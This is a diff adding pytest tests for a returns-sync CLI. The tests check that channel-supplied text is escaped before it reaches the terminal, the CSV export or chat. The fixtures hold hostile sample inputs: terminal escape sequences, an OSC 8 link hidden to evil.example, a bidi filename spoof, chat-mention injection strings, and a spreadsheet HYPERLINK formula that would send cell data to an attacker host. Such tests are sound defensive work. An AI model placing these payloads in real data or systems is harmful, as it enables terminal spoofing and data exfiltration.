@@ -1,0 +1,175 @@
+"""Text from a channel reaches the admin's terminal and the merchant's spreadsheet as text, never as a command.
+
+A customer types the reason, a channel names the product and writes the error body: any of them may carry an
+escape sequence (clear the screen, retitle the window, an OSC 8 link that hides where it points), a bidi
+override, or a spreadsheet formula. These tests sync such a return through the CLI and read what it prints.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator
+from pathlib import Path
+from typing import ClassVar
+
+import pytest
+from sqlalchemy import Engine
+
+from retsync.cli import main
+from retsync.connector import Page, PullContext, Stream
+from retsync.model import Customer
+from retsync.safe_text import for_chat, for_spreadsheet, for_terminal
+from tests.fakes import ScriptedConnector
+
+CLEAR_SCREEN = "\x1b[2J\x1b[H"
+WINDOW_TITLE = "\x1b]0;pwned\x07"
+HIDDEN_LINK = "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\"
+BIDI = "\u202egnp.exe"
+C1_CSI = "\x9b31m"
+HOSTILE = CLEAR_SCREEN + WINDOW_TITLE + HIDDEN_LINK + BIDI + C1_CSI
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open invoice")'
+
+
+class HostileErrorConnector(ScriptedConnector):
+    name: ClassVar[str] = "hostile-errors"
+
+    def pull(self, stream: Stream, context: PullContext) -> Iterator[Page]:
+        raise RuntimeError(f"HTTP 500: {HOSTILE}")
+        yield  # pragma: no cover
+
+
+@pytest.fixture
+def hostile_config(tmp_path: Path, db: Engine, db_url: str, extra_connectors: dict) -> Path:
+    extra_connectors.update(scripted=ScriptedConnector, **{"hostile-errors": HostileErrorConnector})
+    ScriptedConnector.reset(4)
+    first, second, third = ScriptedConnector.returns[:3]
+    ScriptedConnector.returns[0] = first.model_copy(update={
+        "channel_reason": f"Too small {HOSTILE}", "channel_status": f"open{CLEAR_SCREEN}",
+        "tracking_number": f"TRACK{WINDOW_TITLE}",
+        "customer": Customer(email="buyer0@example.com", name=f"Anna{HIDDEN_LINK}"),
+        "lines": tuple(line.model_copy(update={"channel_reason": f"line {HOSTILE}"}) for line in first.lines)})
+    ScriptedConnector.returns[1] = second.model_copy(update={"channel_reason": FORMULA})
+    ScriptedConnector.returns[2] = third.model_copy(update={"channel_reason": "-1+2", "channel_status": "@SUM(A1)"})
+    order = ScriptedConnector.orders["O0"]
+    ScriptedConnector.orders["O0"] = order.model_copy(update={"lines": tuple(
+        line.model_copy(update={"title": f"Lamp {HIDDEN_LINK}{BIDI}"}) for line in order.lines)})
+    path = tmp_path / "config.toml"
+    path.write_text(f"""
+[database]
+url = "{db_url}"
+[daemon]
+state_dir = "{tmp_path}"
+[channels.shop]
+connector = "scripted"
+[channels.market]
+connector = "hostile-errors"
+""")
+    return path
+
+
+def _run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
+    code = main(list(args))
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def _no_control_characters(text: str) -> None:
+    for bad in ("\x1b", "\x07", "\x9b", "\u202e"):
+        assert bad not in text, f"{bad!r} reached the terminal"
+
+
+def test_sync_failures_and_channels_print_escape_sequences_as_text(hostile_config: Path,
+                                                                   capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, err = _run(capsys, "--config", str(hostile_config), "sync")
+    assert code == 1 and "shop: ok (4 new, 0 updated returns)" in out
+    _no_control_characters(out + err)
+    assert "market: FAILED: RuntimeError: HTTP 500: \\x1b[2J\\x1b[H\\x1b]0;pwned\\x07" in err
+    code, out, err = _run(capsys, "--config", str(hostile_config), "channels")
+    assert code == 0
+    _no_control_characters(out + err)
+    assert "(1 in a row): RuntimeError: HTTP 500: \\x1b[2J" in out and "\\u202egnp.exe\\x9b31m" in out
+
+
+def test_returns_show_and_list_print_channel_text_escaped(hostile_config: Path,
+                                                          capsys: pytest.CaptureFixture[str]) -> None:
+    _run(capsys, "--config", str(hostile_config), "sync", "--channel", "shop")
+    code, out, err = _run(capsys, "--config", str(hostile_config), "returns", "show", "shop/R0")
+    assert code == 0
+    _no_control_characters(out + err)
+    assert "  reason      wrong_size (Too small \\x1b[2J\\x1b[H\\x1b]0;pwned\\x07" in out
+    assert "  status      requested (channel: open\\x1b[2J\\x1b[H)" in out
+    [customer] = [line for line in out.splitlines() if line.startswith("  customer  ")]
+    assert customer == "  customer    b***@e***.com  A***", "the name is redacted, hidden link and all"
+    assert "Lamp \\x1b]8;;https://evil.example/" in out, "order line titles are shown, escaped"
+    for line in out.splitlines():
+        assert "\r" not in line
+    code, out, err = _run(capsys, "--config", str(hostile_config), "returns", "list")
+    assert code == 0 and "(4 returns)" in out
+    _no_control_characters(out + err)
+    assert "open\\x1b[2J\\x1b[H" in out
+
+
+def test_csv_cells_that_would_be_formulas_are_text(hostile_config: Path,
+                                                   capsys: pytest.CaptureFixture[str]) -> None:
+    _run(capsys, "--config", str(hostile_config), "sync", "--channel", "shop")
+    code, out, _ = _run(capsys, "--config", str(hostile_config), "returns", "list", "--format", "csv")
+    assert code == 0
+    rows = {row["external_id"]: row for row in csv.DictReader(io.StringIO(out))}
+    assert rows["R1"]["channel_reason"] == "'" + FORMULA
+    assert rows["R2"]["channel_reason"] == "'-1+2" and rows["R2"]["channel_status"] == "'@SUM(A1)"
+    assert rows["R3"]["channel_reason"] == "Too small", "ordinary text is left alone"
+    assert rows["R3"]["quantity"] == "2" and rows["R3"]["line_count"] == "2", "numbers stay numbers"
+    assert "\x1b" not in out and rows["R0"]["channel_reason"].startswith("Too small \\x1b[2J")
+
+
+def test_a_return_id_too_big_for_the_database_is_one_line(hostile_config: Path,
+                                                          capsys: pytest.CaptureFixture[str]) -> None:
+    _run(capsys, "--config", str(hostile_config), "sync", "--channel", "shop")
+    for args in (("returns", "show", "99999999999999999999999"), ("decide", "99999999999999999999999", "accept"),
+                 ("returns", "show", "9223372036854775808"), ("returns", "show", "shop/R99")):
+        code, out, err = _run(capsys, "--config", str(hostile_config), *args)
+        assert code == 1, args
+        assert err.startswith("retsync: no return ") and err.count("\n") == 1 and "Traceback" not in err, err
+    code, out, err = _run(capsys, "--config", str(hostile_config), "returns", "list", "--limit",
+                          "99999999999999999999999")
+    assert code == 0 and "(4 returns)" in out
+    for number in ("99999999999999999999999", "-3", "0"):
+        code, out, err = _run(capsys, "--config", str(hostile_config), "decide", "shop/R3", "accept",
+                              "--line", "R3-L0", "--quantity", number)
+        assert code in (1, 2) and "Traceback" not in err and err.strip().count("\n") <= 2, err
+        assert ("--quantity" in err or "quantity" in err) and "recorded decision" not in out, err
+
+
+@pytest.mark.parametrize(("text", "shown"), [
+    ("plain text, ünïcödé", "plain text, ünïcödé"),
+    ("a\x1b[31mred", "a\\x1b[31mred"),
+    ("tab\tand\nnewline\r", "tab\\x09and\\x0anewline\\x0d"),
+    ("\u202eright-to-left\u2066", "\\u202eright-to-left\\u2066"),
+    ("\x9d8;;x\x9c", "\\x9d8;;x\\x9c"),
+])
+def test_for_terminal(text: str, shown: str) -> None:
+    assert for_terminal(text) == shown
+    assert for_terminal("line one\nline\ttwo\x1b", keep_newlines=True) == "line one\nline\ttwo\\x1b"
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "\\x0dx"),
+    ("a=1", "a=1"), ("", ""), (-5, -5), (2.5, 2.5), (None, None),
+])
+def test_for_spreadsheet(value: object, cell: object) -> None:
+    assert for_spreadsheet(value) == cell
+
+
+@pytest.mark.parametrize(("text", "escaped"), [
+    ("<!channel> look", "&lt;!channel&gt; look"),
+    ("hi <@U024BE7LH>", "hi &lt;@\u200bU024BE7LH&gt;"),
+    ("<https://evil.example|your invoice>", "&lt;https://evil.example|your invoice&gt;"),
+    ("@everyone @here @channel", "@\u200beveryone @\u200bhere @\u200bchannel"),
+    ("[invoice](https://evil.example)", "[invoice]\u200b(https://evil.example)"),
+    ("Tom & Jerry", "Tom &amp; Jerry"),
+    ("<at>Anna</at>", "&lt;at&gt;Anna&lt;/at&gt;"),
+    ("size 42 @ 10 EUR", "size 42 @ 10 EUR"),
+])
+def test_for_chat(text: str, escaped: str) -> None:
+    assert for_chat(text) == escaped
